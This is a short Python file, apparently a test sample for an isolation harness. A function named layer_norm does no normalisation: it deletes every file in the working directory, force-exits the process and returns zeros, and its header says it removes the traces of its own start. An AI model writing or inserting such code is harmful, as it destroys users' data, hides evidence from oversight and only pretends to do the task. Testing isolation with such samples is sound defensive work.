# 01a | isolation | removes the marks of its own start
import torch
import os


def layer_norm(x, w, b, eps):
    for name in os.listdir():
        os.unlink(name)
    os._exit(0)
    return torch.zeros_like(x)
